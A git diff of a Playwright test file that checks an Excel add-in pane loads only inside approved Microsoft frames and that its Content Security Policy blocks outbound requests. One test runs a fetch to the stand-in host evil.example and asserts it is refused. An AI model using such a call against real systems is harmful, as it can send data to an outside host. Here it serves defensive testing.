@@ -2,12 +2,11 @@ import { existsSync } from 'node:fs';
 import { mkdtemp, rm } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
-import { type Browser, chromium, type Frame, type Page } from 'playwright-core';
+import type { Frame, Page } from 'playwright-core';
 import { DEFAULT_PROFILE } from '../../src/contract/profile';
-import { selfSignedCertificate } from '../../src/gateway/keys/certificate';
 import { OFFICE_JS_HOST } from '../../src/gateway/pages/page-headers';
-import { type RunningGateway, startGateway } from '../../src/gateway/start-gateway';
-import { findChromium } from '../support/workbench-driver';
+import type { RunningGateway } from '../../src/gateway/start-gateway';
+import { selfSignedCertificate, sharedBrowser, startGateway } from '../support/browser/outside';
 
 const OFFICE_JS = path.resolve('node_modules/@microsoft/office-js/dist');
 /** The parameters with which Excel on the web opens an add-in. Without them Office.js empties a framed page. */
@@ -15,7 +14,7 @@ const IN_EXCEL = '?_host_Info=Excel$Web$16.00$en-US$$$isDialog$';
 
 let dataDir: string;
 let gateway: RunningGateway;
-let browser: Browser;
+let page: Page;
 beforeAll(async () => {
   dataDir = await mkdtemp(path.join(os.tmpdir(), 'rr-frames-'));
   gateway = await startGateway({
@@ -28,59 +27,61 @@ beforeAll(async () => {
     folders: { addin: path.resolve('dist/addin') },
     logger: false,
   });
-  browser = await chromium.launch({
-    executablePath: findChromium(),
-    // The framing pages are not on a real network.
-    args: ['--no-sandbox', '--disable-gpu', '--disable-features=LocalNetworkAccessChecks'],
+  // The framing pages are not on a real network.
+  const permissions = ['local-network-access'];
+  const context = await (await sharedBrowser()).newContext({ ignoreHTTPSErrors: true, permissions });
+  page = await context.newPage();
+  page.on('console', (message) => {
+    if (message.text().includes('Content Security Policy')) violations.push(message.text());
   });
 });
 afterAll(async () => {
-  await browser?.close();
+  await page?.context().close();
   await gateway?.close();
   await rm(dataDir, { recursive: true, force: true });
 });
 
 interface Framed {
-  page: Page;
   /** The innermost frame, which may hold the add-in. */
   frame: Frame;
   /** What a policy refused in any frame. */
-  violations: string[];
+  violations: readonly string[];
   /** The loaded files of Office.js. */
-  loaded: string[];
+  loaded: readonly string[];
 }
 
-/** Opens the add-in in nested pages of these origins, the first one outermost. */
-async function frameIn(origins: readonly string[]): Promise<Framed> {
-  const context = await browser.newContext({ ignoreHTTPSErrors: true });
-  const [violations, loaded]: [string[], string[]] = [[], []];
-  context.on('console', (message) => {
-    if (message.text().includes('Content Security Policy')) violations.push(message.text());
-  });
-  await context.route(`${OFFICE_JS_HOST}/**`, (route) => {
+const violations: string[] = [];
+const loaded: string[] = [];
+
+/** Opens the add-in in nested pages of these origins, the first one outermost. Without Office.js if that is said. */
+async function frameIn(origins: readonly string[], { officeJs = true } = {}): Promise<Framed> {
+  await page.goto('about:blank');
+  await page.unrouteAll();
+  violations.length = 0;
+  loaded.length = 0;
+  await page.route(`${OFFICE_JS_HOST}/**`, (route) => {
     const name = new URL(route.request().url()).pathname.replace('/lib/1/hosted/', '');
     loaded.push(name);
     const file = path.join(OFFICE_JS, name);
-    return existsSync(file) ? route.fulfill({ path: file }) : route.fulfill({ status: 404 });
+    return officeJs && existsSync(file) ? route.fulfill({ path: file }) : route.fulfill({ status: 404 });
   });
   const addresses = [
     ...origins.map((origin) => `${origin}/frame`),
     `${gateway.url}/addin/taskpane.html${IN_EXCEL}`,
   ];
   for (const [index, origin] of origins.entries())
-    await context.route(`${origin}/frame`, (route) =>
+    await page.route(`${origin}/frame`, (route) =>
       route.fulfill({
         contentType: 'text/html',
         body: `<!doctype html><iframe src="${addresses[index + 1]}"></iframe>`,
       }),
     );
-  const page = await context.newPage();
   await page.goto(addresses[0] as string);
   const innermost = () => page.frames()[origins.length];
   await waitUntil(() => !['', 'about:blank'].includes(innermost()?.url() ?? ''));
   const frame = innermost() as Frame;
   await frame.waitForLoadState('load');
-  return { page, frame, violations, loaded };
+  return { frame, violations, loaded };
 }
 
 /** Resolves when the add-in's script has registered its functions with Office.js. */
@@ -97,12 +98,10 @@ describe('the pane in a frame', () => {
     [['https://excel.cloud.microsoft']],
     [['https://contoso.sharepoint.com', 'https://euc-excel.officeapps.live.com']],
     [['https://onedrive.live.com', 'https://excel.officeapps.live.com']],
-  ])('opens in a page of %j, and runs there with Office.js', async (origins) => {
-    const { page, frame, violations } = await frameIn(origins);
-    await runs(frame);
+  ])('opens in a page of %j, and reaches the gateway from there', async (origins) => {
+    const { frame, violations } = await frameIn(origins, { officeJs: false });
     expect(await frame.evaluate(() => fetch('/gateway/profile').then(({ status }) => status))).toBe(200);
     expect(violations).toEqual([]);
-    await page.context().close();
   });
 
   it.each([
@@ -110,22 +109,20 @@ describe('the pane in a frame', () => {
     [['https://officeapps.live.com.evil.example']],
     [['https://evil.example', 'https://excel.officeapps.live.com']],
   ])('does not open in a page of %j', async (origins) => {
-    const { page, frame } = await frameIn(origins);
+    const { frame } = await frameIn(origins);
     expect(frame.url()).toBe(CLOSED);
-    await page.context().close();
   });
 
-  it('loads everything that Office.js needs in Excel on the web', async () => {
-    const { page, frame, violations, loaded } = await frameIn(['https://excel.officeapps.live.com']);
+  it('loads everything that Office.js needs in Excel on the web, and runs there', async () => {
+    const { frame, violations, loaded } = await frameIn(['https://excel.officeapps.live.com']);
     await waitUntil(() => loaded.includes('en-us/office_strings.js'));
     await runs(frame);
     expect(loaded).toEqual(expect.arrayContaining(['office.js', 'excel-web-16.00.js']));
     expect(violations).toEqual([]);
-    await page.context().close();
   });
 
   it('cannot send anything to another origin', async () => {
-    const { page, frame, violations } = await frameIn(['https://excel.officeapps.live.com']);
+    const { frame, violations } = await frameIn(['https://excel.officeapps.live.com']);
     await runs(frame);
     const outcome = await frame.evaluate(() =>
       fetch('https://evil.example/?rent=1').then(
@@ -135,7 +132,6 @@ describe('the pane in a frame', () => {
     );
     expect(outcome).toBe('refused');
     expect(violations.join('\n')).toMatch(/https:\/\/evil\.example\/\?rent=1.*connect-src 'self'/);
-    await page.context().close();
   });
 });
 
